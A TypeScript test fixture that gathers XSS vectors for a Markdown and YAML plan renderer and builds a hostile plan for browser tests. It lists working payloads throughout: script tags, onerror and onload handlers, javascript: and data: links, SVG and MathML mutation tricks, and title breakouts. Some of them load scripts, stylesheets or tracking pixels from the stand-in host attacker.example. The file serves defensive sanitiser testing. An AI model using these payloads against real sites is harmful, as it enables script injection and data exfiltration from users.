/**
 * Hostile content for the renderer: XSS and exfiltration vectors, each placed where a plan can
 * carry it (the Markdown body, a heading, a table cell, a link, a YAML value…). Every payload
 * that could run announces itself in one of three ways the browser tests watch for: a dialog
 * (`alert(1)`), a console marker (`console.log('XSS')`) or `window.__xss = 1`; and every
 * resource it could load points at attacker.example, so any network request is a failure too.
 */
import { parse as parseYaml, stringify as stringifyYaml } from 'yaml';
import { appendToSection, CLEAN } from '../helpers/plans';

export type Place =
  /** A block of its own in the body. */
  | 'body'
  /** Inside a level-3 heading. */
  | 'heading'
  /** Inside a table cell (pipes are escaped by the builder). */
  | 'cell'
  /** A raw line appended to the body (link reference definitions, fences). */
  | 'raw'
  /** A YAML string value: `titel` of the plan. */
  | 'titel'
  /** A YAML string value: the `titel` of an objective. */
  | 'doelstelling'
  /** A YAML string value: one of the `systemen` of an objective. */
  | 'systeem'
  /** A YAML string value: one of the `gegevens`, `maatregelen` or an activity's fields. */
  | 'activiteit';

export interface Vector {
  name: string;
  place: Place;
  payload: string;
}

const MARK = "window.__xss=1;console.log('XSS');alert(1)";

export const XSS_VECTORS: readonly Vector[] = [
  // Raw HTML in the body.
  { name: 'script tag', place: 'body', payload: `<script>${MARK}</script>` },
  { name: 'script tag, mixed case and attributes', place: 'body', payload: `<ScRiPt type="text/javascript" src="https://attacker.example/x.js">${MARK}</sCrIpT>` },
  { name: 'img onerror', place: 'body', payload: `<img src="x" onerror="${MARK}">` },
  { name: 'img onerror, unquoted and slashes', place: 'body', payload: `<img/src=x/onerror=alert(1)>` },
  { name: 'svg onload with nested script', place: 'body', payload: `<svg onload="${MARK}"><script>${MARK}</script></svg>` },
  { name: 'svg animate onbegin', place: 'body', payload: `<svg><animate onbegin="${MARK}" attributeName="x" dur="1s"/></svg>` },
  { name: 'svg use with data: href', place: 'body', payload: `<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48aW1hZ2UgaHJlZj0nMScgb25lcnJvcj0nYWxlcnQoMSknLz48L3N2Zz4=#x"/></svg>` },
  { name: 'MathML mglyph/style mutation', place: 'body', payload: `<math><mtext><table><mglyph><style><img src=x onerror="${MARK}"></style></mglyph></table></mtext></math>` },
  { name: 'MathML xlink:href javascript', place: 'body', payload: `<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">click</maction></math>` },
  { name: 'iframe javascript: src', place: 'body', payload: `<iframe src="javascript:${MARK}"></iframe>` },
  { name: 'iframe srcdoc', place: 'body', payload: `<iframe srcdoc="<script>parent.__xss=1;parent.alert(1)</script>"></iframe>` },
  { name: 'object data: URL', place: 'body', payload: `<object data="data:text/html,<script>alert(1)</script>"></object>` },
  { name: 'embed javascript:', place: 'body', payload: `<embed src="javascript:alert(1)">` },
  { name: 'meta refresh', place: 'body', payload: `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">` },
  { name: 'meta CSP override attempt', place: 'body', payload: `<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'">` },
  { name: 'base href', place: 'body', payload: `<base href="https://attacker.example/">` },
  { name: 'link stylesheet', place: 'body', payload: `<link rel="stylesheet" href="https://attacker.example/x.css">` },
  { name: 'CSS expression and url(javascript:)', place: 'body', payload: `<div style="width:expression(alert(1));background:url(javascript:alert(1))">css</div>` },
  { name: 'style element with external url', place: 'body', payload: `<style>@import url("https://attacker.example/i.css");body{background:url("https://attacker.example/bg.png")}</style>` },
  { name: 'details ontoggle', place: 'body', payload: `<details open ontoggle="${MARK}"><summary>x</summary>y</details>` },
  { name: 'input autofocus onfocus', place: 'body', payload: `<input autofocus onfocus="${MARK}">` },
  { name: 'video source onerror', place: 'body', payload: `<video><source onerror="${MARK}"></video>` },
  { name: 'form action javascript:', place: 'body', payload: `<form action="javascript:alert(1)"><button>go</button></form>` },
  { name: 'anchor onclick', place: 'body', payload: `<a href="#" onclick="${MARK}" onmouseover="${MARK}">hover</a>` },
  { name: 'noscript title breakout', place: 'body', payload: `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>` },
  { name: 'template script', place: 'body', payload: `<template><script>${MARK}</script></template>` },
  { name: 'broken markup: unclosed attribute', place: 'body', payload: `<a href="javascript:alert(1)"<b>x</a>` },
  { name: 'broken markup: nested script tags', place: 'body', payload: `<<script>script>alert(1)<</script>/script>` },
  { name: 'broken markup: split script', place: 'body', payload: `<scr<script>ipt>alert(1)</scr</script>ipt>` },
  { name: 'HTML comment breakout', place: 'body', payload: `<!-- --><script>${MARK}</script><!-- -->` },
  { name: 'HTML comment trick <!-->', place: 'body', payload: `<!--><img src=x onerror="${MARK}">-->` },
  { name: 'entity-encoded script (stays text)', place: 'body', payload: `&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;` },
  { name: 'inline HTML in a paragraph', place: 'body', payload: `Tekst met <span onmouseover="${MARK}">inline</span> en <b style="background:url(https://attacker.example/p.png)">vet</b>.` },
  // Markdown links and images.
  { name: 'markdown link javascript:', place: 'body', payload: `[klik hier](javascript:window.__xss=1)` },
  { name: 'markdown link, mixed case and spaces', place: 'body', payload: `[klik](JaVaScRiPt:alert(1)) [klik](<  javascript:alert(1)>)` },
  { name: 'markdown link, entity-encoded scheme', place: 'body', payload: `[klik](java&#x73;cript:alert(1)) [klik](javascript&colon;alert(1)) [klik](&#106;avascript:alert(1))` },
  { name: 'markdown link data: URL', place: 'body', payload: `[klik](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)` },
  { name: 'markdown link vbscript:', place: 'body', payload: `[klik](vbscript:msgbox(1))` },
  { name: 'markdown image javascript:', place: 'body', payload: `![plaatje](javascript:alert(1))` },
  { name: 'markdown image external (tracking pixel)', place: 'body', payload: `![pixel](https://attacker.example/pixel.png)` },
  { name: 'markdown image data: SVG', place: 'body', payload: `![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)` },
  { name: 'autolink javascript:', place: 'body', payload: `<javascript:alert(1)> <vbscript:msgbox(1)>` },
  { name: 'link title breakout', place: 'body', payload: `[titel](https://example.org "\\" onmouseover=\\"alert(1)") [t2](https://example.org '"><img src=x onerror=alert(1)>')` },
  { name: 'reference definition javascript:', place: 'raw', payload: `Zie [de bron][bron] en ![beeld][beeld].\n\n[bron]: javascript:alert(1) "titel"\n[beeld]: https://attacker.example/ref.png` },
  { name: 'footnote with payload', place: 'raw', payload: `Voetnoot[^x"><img src=x onerror=alert(1)>] en [^acquireVsCodeApi].\n\n[^x"><img src=x onerror=alert(1)>]: <img src=x onerror=alert(1)>\n[^acquireVsCodeApi]: clobber` },
  { name: 'fenced code info string', place: 'raw', payload: '```js" onmouseover="alert(1)\n<script>alert(1)</script>\n```' },
  // Headings and table cells.
  { name: 'heading with img onerror', place: 'heading', payload: `<img src=x onerror="${MARK}"> Kop` },
  { name: 'heading with script', place: 'heading', payload: `Kop <script>${MARK}</script>` },
  { name: 'table cell with script', place: 'cell', payload: `<script>${MARK}</script>` },
  { name: 'table cell with svg', place: 'cell', payload: `<svg><script>${MARK}</script></svg>` },
  { name: 'table cell with link', place: 'cell', payload: `[cel](javascript:alert(1))` },
  // YAML values.
  { name: 'YAML titel closes <title>', place: 'titel', payload: `</title><script>${MARK}</script>` },
  { name: 'YAML doelstelling titel with svg', place: 'doelstelling', payload: `<svg/onload="${MARK}">` },
  { name: 'YAML systemen with iframe', place: 'systeem', payload: `<iframe src="javascript:alert(1)"></iframe>` },
  { name: 'YAML systemen closes style', place: 'systeem', payload: `</style><script>${MARK}</script>` },
  { name: 'YAML activity fields', place: 'activiteit', payload: `"><img src=x onerror="${MARK}">` },
];

/** The clean plan of the core tests, split into its front matter (as data) and its body. */
const [, CLEAN_YAML, CLEAN_BODY] = /^---\n([\s\S]*?)\n---\n([\s\S]*)$/.exec(CLEAN)!;

type Item = Record<string, unknown> & { landschapsimpact: Record<string, unknown> };

/**
 * The clean plan carrying the given vectors; every vector lands where its place says. The YAML
 * places fill many fields at once (ministry, version, ids, levels, statuses…), so each part of
 * the page that shows front-matter data gets its share.
 */
export function hostilePlan(vectors: readonly Vector[] = XSS_VECTORS): string {
  const by = (place: Place) => vectors.filter((v) => v.place === place).map((v) => v.payload);
  const titel = by('titel')[0] ?? 'Plan';
  const goals = by('doelstelling');
  const systems = by('systeem');
  const [activity] = by('activiteit');
  const cells = by('cell').map((c) => c.replace(/\|/g, '\\|'));

  const data = parseYaml(CLEAN_YAML) as Record<string, unknown> & { doelstellingen: Item[]; activiteiten: Item[] };
  const [goal] = data.doelstellingen;
  const [large] = data.activiteiten;
  data.titel = titel;
  goal.landschapsimpact = { ...goal.landschapsimpact, systemen: systems, maatregelen: goals.join(' ') || 'Maatregel' };
  if (goals.length > 0) goal.titel = goals.join(' ');
  large.landschapsimpact = { ...large.landschapsimpact, systemen: systems, maatregelen: titel };
  if (activity !== undefined) {
    Object.assign(data, { ministerie: activity, versie: activity });
    Object.assign(goal, { id: activity });
    Object.assign(goal.landschapsimpact, { niveau: activity, gegevens: [activity] });
    Object.assign(large, { id: activity, naam: activity, status: activity, dashboard_nummer: activity, acict: activity });
  }

  let body = CLEAN_BODY.replace(/^# .*$/m, `# ${titel.replace(/\n/g, ' ')}`);
  const headings = by('heading').map((h) => `### ${h}\n\nTekst onder de kop.`);
  body = appendToSection(body, 'Samenvatting', [...by('body'), ...headings].join('\n\n'));
  body = appendToSection(body, 'Beleidsprioriteiten', ['| Kolom | Waarde |', '| --- | --- |', ...cells.map((c) => `| ${c} | ${c} |`)].join('\n'));
  body = appendToSection(body, 'Prioritaire IV-doelstellingen', by('raw').join('\n\n'));
  return `---\n${stringifyYaml(data, { aliasDuplicateObjects: false })}---\n${body}`;
}
